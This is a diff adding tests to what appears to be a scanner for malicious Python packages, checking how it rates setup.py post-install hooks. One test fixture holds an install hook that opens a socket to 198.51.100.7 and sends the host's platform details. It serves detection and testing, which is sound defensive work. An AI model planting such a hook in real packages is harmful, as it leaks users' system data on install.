@@ -339,3 +339,30 @@ def test_a_temporary_file_written_and_started_with_pythonw_is_a_second_stage(tmp
     found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
     assert worst(found, "code-dropped-exec") is Severity.CRITICAL
     assert worst(found, "code-download-exec") >= Severity.HIGH
+
+
+# --- install commands that call helpers -------------------------------------------------------
+
+INSTALL_WITH_HELPER = (
+    "import socket, platform\n"
+    "from setuptools import setup\nfrom setuptools.command.install import install\n"
+    "def helper():\n{body}"
+    "class PostInstall(install):\n    def run(self):\n        install.run(self)\n        helper()\n"
+    "setup(name='pkg', cmdclass={{'install': PostInstall}})\n"
+)
+
+
+def test_an_install_command_calling_a_helper_that_sends_is_high(tmp_path: Path) -> None:
+    body = (
+        "    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
+        "    s.connect(('198.51.100.7', 9090))\n"
+        "    s.send(platform.platform().encode())\n"
+    )
+    found = scan(tmp_path, {"pkg-1.0/setup.py": INSTALL_WITH_HELPER.format(body=body)})
+    assert worst(found, "install-cmdclass") is Severity.HIGH
+
+
+def test_an_install_command_calling_a_helper_that_prints_stays_low(tmp_path: Path) -> None:
+    body = "    print('thanks for installing on', platform.platform())\n"
+    found = scan(tmp_path, {"pkg-1.0/setup.py": INSTALL_WITH_HELPER.format(body=body)})
+    assert worst(found, "install-cmdclass") is Severity.LOW
